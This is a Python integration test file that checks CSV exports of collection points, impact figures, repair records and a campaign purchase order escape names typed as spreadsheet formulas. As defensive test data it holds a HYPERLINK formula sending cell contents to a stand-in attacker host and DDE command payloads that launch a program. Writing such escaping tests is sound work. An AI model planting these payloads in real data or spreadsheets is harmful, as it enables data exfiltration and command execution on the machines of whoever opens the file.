"""Names typed as spreadsheet formulas, sent over real HTTP, come back from every CSV export
as text that a spreadsheet shows instead of running: the collection points, the impact
figures, the repair records and a campaign's purchase order."""

from __future__ import annotations

import csv
import io
import uuid

import httpx
import msgspec

from boucle.devstack.stack import Stack
from services.collection_point.domain import CollectionPoint
from tests.support.campaigns import Api, http_campaign, waiting_need
from tests.support.dismantling import DISMANTLING
from tests.support.households import Territory
from tests.support.http import bearer
from tests.support.stacks import token_for
from tests.support.waiting import wait_for
from tests.support.workshop import checked_in, donated_device, new_workshop

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'


def hostile(prefix: str) -> str:
    return f"{prefix}{uuid.uuid4().hex[:6]}+cmd|' /C calc'!A0"


def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text)))


async def hostile_point(stack: Stack, http: httpx.AsyncClient) -> CollectionPoint:
    point = CollectionPoint(
        id=uuid.uuid4(),
        name=hostile("="),
        kind="library",
        address="-1 rue du Calcul",
        postcode="59000",
        commune=hostile("@"),
    )
    answer = await http.post(
        f"{stack.url('collection_point')}/api/v1/collection-points",
        json={
            "name": point.name,
            "kind": point.kind,
            "address": point.address,
            "postcode": point.postcode,
            "commune": point.commune,
            "accessibility": "\tRampe à gauche",
            "phone": "+33320123456",
            "latitude": 50.63,
            "longitude": -1.55,
        },
        headers=bearer(token_for(stack, "coordinator")),
    )
    assert answer.status_code == 201, answer.text
    return msgspec.structs.replace(point, id=uuid.UUID(answer.json()["place"]["id"]))


async def test_formula_names_leave_every_export_as_text(
    stack: Stack, http: httpx.AsyncClient, territory: Territory
) -> None:
    point = await hostile_point(stack, http)
    places = rows_of(
        await http.get(f"{stack.url('collection_point')}/api/v1/open-data/collection-points.csv")
    )
    [place] = [row for row in places if row["id"] == str(point.id)]
    assert (place["nom"], place["commune"]) == ("'" + point.name, "'" + point.commune)
    assert (place["adresse"], place["presentation_detail"]) == (
        "'-1 rue du Calcul",
        "'\tRampe à gauche",
    )
    assert (place["longitude"], place["telephone"]) == ("-1.550000", "+33320123456")

    code = await donated_device(stack, point)

    async def impact_of_the_point() -> list[dict[str, str]]:
        answer = await http.get(f"{stack.url('inventory')}/api/v1/open-data/impact.csv")
        return [row for row in rows_of(answer) if point.name in row["place_name"]]

    for row in await wait_for(impact_of_the_point):
        assert row["place_name"] == "'" + point.name

    workshop = await new_workshop(stack)
    order = await checked_in(stack, http, workshop, code)
    base = f"{stack.url('refurbishment')}/api/v1/work-orders/{order}"
    officer = bearer(token_for(stack, "erasure_officer", f"workshop:{workshop}"))
    refurbisher = bearer(token_for(stack, "refurbisher", f"workshop:{workshop}"))
    assert (await http.post(f"{base}/no-storage", headers=officer)).status_code == 204
    dismantling = {**DISMANTLING, "reason": FORMULA}
    answer = await http.post(f"{base}/dismantling", json=dismantling, headers=refurbisher)
    assert answer.status_code == 204, answer.text
    repairs = rows_of(await http.get(f"{stack.url('refurbishment')}/api/v1/open-data/repairs.csv"))
    [repair] = [row for row in repairs if row["id"] == order]
    assert repair["problem"] == "'" + FORMULA
    assert repair["repair_status"] == "3"

    await assert_the_purchase_order_is_text(territory)


async def assert_the_purchase_order_is_text(territory: Territory) -> None:
    api = Api(territory)
    funder = hostile("+")
    needs = [await waiting_need(territory), await waiting_need(territory)]
    campaign_id = await http_campaign(api, 2, 3, "cancel", subsidy_funder=funder)
    path = f"/campaigns/{campaign_id}"
    for need in needs:
        json = {"need_id": need["id"]}
        await api.call("POST", f"{path}/pledges", territory.worker, 201, json=json)
    await api.call("POST", f"{path}/order", territory.coordinator, 201)
    order = await api.call("GET", f"{path}/order.csv", territory.coordinator, 200)
    lines = {row["line"]: row for row in csv.DictReader(io.StringIO(order.text))}
    assert lines["subsidy"]["description"] == "'" + funder
    assert lines["total"]["amount_cents"].isdigit()
